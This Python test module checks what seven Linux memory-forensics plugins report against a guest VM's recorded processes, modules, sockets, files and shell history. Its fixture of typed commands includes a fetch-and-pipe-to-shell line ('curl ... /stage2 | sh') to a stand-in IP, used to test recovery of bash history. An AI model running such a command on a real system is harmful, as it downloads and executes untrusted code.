# SPDX-License-Identifier: LicenseRef-VSL-1.0
"""What seven plugins print, held against what a guest wrote down before and after its memory was copied."""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Callable, Iterator, Set
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from dumpmaker import truth
from support.situations.outcomes import said
from support.volrunner import Result, Vol

TYPED = {"cd /tmp", "curl -s http://203.0.113.7/stage2 | sh", "was-typed-elsewhere", "export SECRET=hunter2"}
"""What was typed into the guest's shell (tools/dumpmaker/guest-rich)."""

PASSING_MODULES = {"tun", "veth", "dm_mod", "overlay", "xfs"}
PASSING_FILES = "/busy/"
PASSING_PROCESSES = {"avml", "cat", "init", "insmod", "mkdir", "rm", "rmmod", "sh", "sleep", "sync", "tell"}
PASSING_PROCESSES |= {"xfsalloc", "xfs_mru_cache"}
"""What comes and goes while memory is copied (tools/dumpmaker/guest-acquire): it may stand in the truth of
before and in that of after, and not have been there in between; or it lived in between only. Processes have
numbers of that time then. Two are xfs' threads in 6.1."""

FOLDERS = ("/www/", "/disk/", "/etc/", "/bin/")
"""Where a guest lists all files and folders (tools/dumpmaker/guest-tell), but for `PASSING_FILES`."""

TELLS_OF_LOSS = re.compile(
    r"\btorn\b|\bnot (?:all )?in (?:the|this) image\b|\bmissing\b|\bc(?:an|ould )not be read\b"
    r"|^No (?:kernel BTF found|symbol table could be made)\b|\bleft out\b|\b(?:in|not )complete\b"
    r"|\bdamaged\b|\bends? early\b"
)
"""In a line about what is not shown, or is shown and should not be."""

Facts = Set[Any]


@dataclass(frozen=True)
class Told:
    """What a guest wrote down at one moment.

    Attributes:
        processes: number and name.
        modules: names.
        sockets: local and other side, of TCP.
        files: paths.
        newest: the number of the newest process.
    """

    processes: Facts
    modules: Facts
    sockets: Facts
    files: Facts
    newest: int

    @classmethod
    def read(cls, folder: Path) -> Told:
        """A folder that `tell` has written (tools/dumpmaker/guest-tell)."""
        rows = truth.processes((folder / "ps").read_text())
        names = {line.split()[0] for line in (folder / "modules").read_text().splitlines()}
        tcp = (folder / "net-tcp", folder / "net-tcp6")
        sockets = {pair for path in tcp for pair in _sockets(path.read_text())}
        files = set((folder / "files").read_text().split())
        pids = {(int(row["pid"]), row["comm"]) for row in rows if not _passing(row["comm"])}
        newest = int((folder / "loadavg").read_text().split()[-1])
        return cls(pids, names, sockets, files, newest)


def _passing(comm: str) -> bool:
    """Whether processes of this name come and go by the second, or change it."""
    return comm.startswith("kworker") or comm in ("ps", "find")


def _sockets(text: str) -> set[tuple[str, int, str, int]]:
    """Both sides of each socket that a process holds, as /proc/net/tcp has them."""
    lines = (line.split() for line in text.splitlines()[1:])
    return {(*_side(words[1]), *_side(words[2])) for words in lines if words[9] != "0"}


def _side(text: str) -> tuple[str, int]:
    address, port = text.split(":")
    raw = b"".join(bytes.fromhex(address[at : at + 8])[::-1] for at in range(0, len(address), 8))
    return socket.inet_ntop(socket.AF_INET if len(raw) == 4 else socket.AF_INET6, raw), int(port, 16)


@dataclass(frozen=True)
class Answer:
    """What a plugin gave.

    Attributes:
        plugin: its name.
        code: its exit code.
        found: how many of what both truths have are in its rows.
        there: how many both truths have.
        more: its rows that neither truth has, of what comes and goes by the second.
        strange: its rows that neither truth has, and that nothing accounts for.
        lines: what was said.
        note: more about it.
    """

    plugin: str
    code: int
    found: int
    there: int
    more: int
    strange: int
    lines: tuple[str, ...]
    note: str = ""

    @property
    def is_silent_fault(self) -> bool:
        """Whether something is missing, or never was, or there was no answer, and nothing says so.

        A line about something else, as where the image's first byte lies, says nothing of what is missing.
        """
        wrong = self.found < self.there or self.strange > 0
        told = any(TELLS_OF_LOSS.search(line) for line in self.lines)
        failed = self.code != 0 and not self.lines
        return failed or (wrong and not told) or any(line.startswith("Traceback") for line in self.lines)


@dataclass(frozen=True)
class Question:
    """A plugin, and how its rows are held against what is known.

    Attributes:
        words: its name and options.
        expected: what must be in its rows.
        key: of a row, as `expected` has it.
        known: what may be in its rows, besides what is expected.
        is_told: whether the guest would have told of a row's subject, had it been there before or after.
        passes: whether a row's key, which neither truth has, may be of what came and went meanwhile.
    """

    words: str
    expected: Facts
    key: Callable[[dict[str, Any]], Any]
    known: Facts = frozenset()
    is_told: Callable[[dict[str, Any]], bool] = lambda _: True
    passes: Callable[[Any], bool] = lambda _: False


class Checks:
    """The seven plugins on one image.

    Args:
        vol: the command.
        image: the image.
        folder: the guest's truth.
        moments: names of the folders in it with what was there before, and after.
    """

    def __init__(self, vol: Vol, image: Path, folder: Path, moments: tuple[str, str]) -> None:
        self._vol, self._image, self._folder = vol, image, folder
        self.before, self.after = (Told.read(folder / moment) for moment in moments)
        self._truth = truth.read(folder)
        self._is_copied = moments[0] != moments[1]

    def all(self) -> Iterator[Answer]:
        """What each of them gives, asked one after the other."""
        btf = {(name, about["sha256"]) for name, about in self._truth["btf"].items()}
        kept = {"vmlinux", *self._both("modules")}
        questions = [
            Question(
                "linux.btfscan --all",
                {one for one in btf if one[0] in kept},
                lambda row: (row["Name"], row["SHA256"]),
                btf,
                lambda row: row["State"] == "complete" and bool(row["Name"]),
                self._was_loaded_meanwhile,
            ),
            Question(
                "linux.btfisf",
                {self._truth["release"]},
                lambda row: row["Release"],
                is_told=lambda row: row["State"] != "types only",
            ),
            Question(
                "linux.pslist",
                self._both("processes"),
                lambda row: (row["PID"], row["COMM"]),
                self._either("processes"),
                lambda row: not _passing(row["COMM"]),
                self._lived_meanwhile,
            ),
            Question(
                "linux.lsmod", self._both("modules"), lambda row: row["Module Name"], self._either("modules")
            ),
            Question("linux.bash", TYPED, lambda row: row["Command"]),
            Question(
                "linux.sockstat",
                self._both("sockets"),
                _socket_of,
                self._either("sockets"),
                lambda row: row["Proto"] == "TCP",
            ),
            Question(
                "linux.pagecache.Files",
                self._both("files"),
                lambda row: row["FilePath"],
                self._either("files"),
                lambda row: row["FileType"] in ("REG", "DIR") and f"{row['FilePath']}/".startswith(FOLDERS),
            ),
        ]
        return (self._ask(question) for question in questions)

    def _both(self, what: str) -> Facts:
        """What was there all the time."""
        before, after = getattr(self.before, what), getattr(self.after, what)
        both: Facts = before & after
        if self._is_copied and what == "modules":
            return both - PASSING_MODULES
        return {one for one in both if what != "files" or not str(one).startswith(PASSING_FILES)}

    def _either(self, what: str) -> Facts:
        """What was there before or after."""
        either: Facts = getattr(self.before, what) | getattr(self.after, what)
        return either | PASSING_MODULES if self._is_copied and what == "modules" else either

    def _lived_meanwhile(self, process: tuple[int, str]) -> bool:
        """Whether a process may have started after the first truth and ended before the second."""
        pid, comm = process
        return self.before.newest < pid <= self.after.newest and comm in PASSING_PROCESSES

    def _was_loaded_meanwhile(self, module: tuple[str, str]) -> bool:
        """Whether BTF is a module's that comes and goes, or LiME's."""
        return self._is_copied and module[0] in {"lime", *PASSING_MODULES}

    def _ask(self, question: Question) -> Answer:
        result = self._vol("-q", *question.words.split(), image=self._image, check=False)
        rows = _rows(result)
        keys = {question.key(row) for row in rows}
        told = {question.key(row) for row in rows if question.is_told(row)}
        more = told - question.expected - question.known
        passing = {key for key in more if question.passes(key)}
        for key in sorted(more - passing, key=repr):
            print(f"    {question.words}: neither truth has {key}", flush=True)
        lines = list(said(result.stderr, {self._folder: "…"}))
        lines += [line for line in result.stderr.splitlines() if line.startswith("Traceback")]
        isf = question.words == "linux.btfisf"
        return Answer(
            question.words,
            result.returncode,
            len(question.expected & keys),
            len(question.expected),
            len(passing),
            len(more) - len(passing),
            tuple(lines),
            ", ".join(sorted({str(row["State"]) for row in rows})) if isf else "",
        )


def _rows(result: Result) -> list[dict[str, Any]]:
    try:
        return result.rows
    except json.JSONDecodeError:
        return []


def _socket_of(row: dict[str, Any]) -> tuple[Any, ...]:
    sides = ("Source", "Destination")
    return tuple(part for side in sides for part in (row[f"{side} Addr"], _number(row[f"{side} Port"])))


def _number(text: Any) -> Any:
    return int(text) if str(text).isdigit() else text
